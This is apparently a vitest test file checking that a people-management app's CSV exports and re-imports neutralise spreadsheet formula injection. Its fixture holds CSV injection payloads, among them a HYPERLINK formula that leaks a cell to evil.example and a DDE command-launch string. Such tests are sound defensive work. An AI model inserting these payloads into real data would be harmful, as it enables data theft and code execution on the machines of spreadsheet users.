// CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection): the people
// export, a segment's members as CSV and `resonance export people`; the import reads an export back
// unchanged, and negative numbers stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { bearer, startTestRuntime, type TestCaller, type TestRuntime } from '../../testing/test-runtime.js';
import { escapeFormulaCell, unescapeFormulaCell } from './csv-formula.js';
import { importThroughApi } from './testing/import-through-api.js';
import { buildProgram } from '../../main.js';
import { createTestDatabase } from '../../testing/test-runtime.js';

const HOSTILE = {
  external_id: 'EVIL-1',
  email: 'evil@x.example',
  given_name: '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
  family_name: "'=already quoted",
  department: '+cmd|" /C calc"!A0',
  job_title: '-2+3',
  location: '@SUM(1+1)',
  attributes: { note: '\t=1+1', cr: '\r=2+2', delta: -5, ratio: -2.5, plain: "it's fine" },
};
const FORMULA_START = /^[=+\-@\t\r]/;

/** Parses CSV text into records, keeping the cells exactly as written. */
const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;

describe('escapeFormulaCell and unescapeFormulaCell', () => {
  it('read back every value unchanged, and never write a cell a spreadsheet would run', () => {
    const cells = fc.oneof(
      fc.string(),
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'=", "''=", "'''", '-5', '-2.5').chain((p) => fc.string().map((s) => p + s)),
    );
    fc.assert(
      fc.property(cells, (value) => {
        const cell = escapeFormulaCell(value);
        expect(unescapeFormulaCell(cell)).toBe(value);
        if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(FORMULA_START);
      }),
      { seed: 42, numRuns: 2000 },
    );
  });

  it('leaves plain numbers, including negative ones, and ordinary text alone', () => {
    for (const value of ['-5', '-2.5', '42', 'Sales', "O'Brien", "'quoted'"]) expect(escapeFormulaCell(value)).toBe(value);
    expect(escapeFormulaCell('=1+1')).toBe("'=1+1");
    expect(escapeFormulaCell('-1+1')).toBe("'-1+1");
  });
});

describe('CSV exports over the API', () => {
  let t: TestRuntime;
  let admin: TestCaller;
  beforeAll(async () => {
    t = await startTestRuntime({ worker: true });
    admin = await bearer(t, 'admin');
    const imported = await importThroughApi(t.app, admin.headers, 'application/x-ndjson', JSON.stringify({ ...HOSTILE, birth_year: 1990 }));
    expect(imported.import).toMatchObject({ created: 1, rejected: 0 });
    await t.app.inject({
      method: 'POST',
      url: '/api/v1/segments',
      headers: admin.headers,
      payload: { key: 'evil', name: 'Evil', rule: { field: 'external_id', op: 'eq', value: 'EVIL-1' } },
    });
  });
  afterAll(async () => t?.close());

  const expectNeutralised = (text: string) => {
    const [row] = parse(text);
    for (const [column, cell] of Object.entries(row!)) {
      if (['attributes.delta', 'attributes.ratio'].includes(column)) continue;
      expect(cell, column).not.toMatch(FORMULA_START);
    }
    expect(row).toMatchObject({
      given_name: `'${HOSTILE.given_name}`,
      family_name: `'${HOSTILE.family_name}`,
      department: `'${HOSTILE.department}`,
      job_title: "'-2+3",
      location: "'@SUM(1+1)",
      'attributes.note': "'\t=1+1",
      'attributes.cr': "'\r=2+2",
      'attributes.delta': '-5',
      'attributes.ratio': '-2.5',
      'attributes.plain': "it's fine",
      birth_year: '1990',
    });
    // Escaped cells are quoted in the file, as OWASP recommends.
    expect(text).toContain(`"'-2+3"`);
  };

  it('neutralises formulas in the people export', async () => {
    const res = await t.app.inject({ url: '/api/v1/people/export?format=csv', headers: admin.headers });
    expect(res.statusCode).toBe(200);
    expectNeutralised(res.body);
  });

  it('neutralises formulas in a segment’s members as CSV', async () => {
    const res = await t.app.inject({ url: '/api/v1/segments/evil/members.csv', headers: admin.headers });
    expect(res.statusCode).toBe(200);
    expectNeutralised(res.body);
  });

  it('reads its own export back unchanged through the import', async () => {
    const exported = (await t.app.inject({ url: '/api/v1/people/export?format=csv', headers: admin.headers })).body;
    const reimport = await importThroughApi(t.app, admin.headers, 'text/csv', exported);
    expect(reimport.import).toMatchObject({ updated: 1, rejected: 0 });
    const after = (await t.app.inject({ url: '/api/v1/people/export?format=jsonl', headers: admin.headers })).body;
    // CSV carries attribute values as text; what matters is that no quote was added or lost.
    expect(JSON.parse(after.trim())).toMatchObject({
      given_name: HOSTILE.given_name,
      family_name: HOSTILE.family_name,
      department: HOSTILE.department,
      job_title: HOSTILE.job_title,
      location: HOSTILE.location,
      attributes: { note: '\t=1+1', cr: '\r=2+2', delta: '-5', ratio: '-2.5', plain: "it's fine" },
    });
  });
});

describe('resonance export people', () => {
  let dir: string;
  let drop: () => Promise<void>;
  let env: Record<string, string>;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'resonance-csv-'));
    const database = await createTestDatabase();
    drop = database.drop;
    env = { RESONANCE_DATA_DIR: path.join(dir, 'data'), LOG_LEVEL: 'warn', ...database.env };
  });
  afterAll(async () => {
    await drop?.();
    await rm(dir, { recursive: true, force: true });
  });

  it('writes neutralised cells to the file', async () => {
    const program = () => buildProgram({ log: () => undefined, error: () => undefined }, env);
    await program().parseAsync(['node', 'resonance', 'migrate']);
    const input = path.join(dir, 'in.jsonl');
    await writeFile(input, JSON.stringify(HOSTILE));
    await program().parseAsync(['node', 'resonance', 'import', 'people', input]);
    const output = path.join(dir, 'out.csv');
    await program().parseAsync(['node', 'resonance', 'export', 'people', output]);
    const [row] = parse(await readFile(output, 'utf8'));
    expect(row).toMatchObject({ given_name: `'${HOSTILE.given_name}`, job_title: "'-2+3", 'attributes.delta': '-5' });
  });
});
